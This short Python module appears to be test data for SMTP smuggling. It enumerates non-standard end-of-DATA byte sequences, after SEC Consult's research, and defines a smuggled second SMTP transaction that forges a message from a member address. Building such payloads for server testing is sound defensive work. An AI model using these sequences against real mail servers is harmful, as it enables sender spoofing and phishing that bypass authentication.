"""Every spelling of the end of DATA that some host takes for one, as SEC Consult published them and others found since."""

from __future__ import annotations

import itertools

BEFORE = (b"\n", b"\r", b"\r\n", b"\r\r\n", b"\n\n", b"\n\r", b"\r\n\0", b"\n\0", b"\r\0\n", b"\r\n\0\0", b"\0\n")
DOT = (b".", b".\0")
AFTER = (b"\n", b"\r", b"\r\n", b"\r\r\n", b"\n\r", b"\0\r\n", b"\r\0\n")
TRUE_END = b"\r\n.\r\n"
TRICKS = [trick for parts in itertools.product(BEFORE, DOT, AFTER) if TRUE_END not in (trick := b"".join(parts))]
SMUGGLED = (
    b"MAIL FROM:<mallory@elsewhere.example>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n"
    b"From: alice@example.org\r\n\r\nforged, in the name of a member\r\n.\r\n"
)
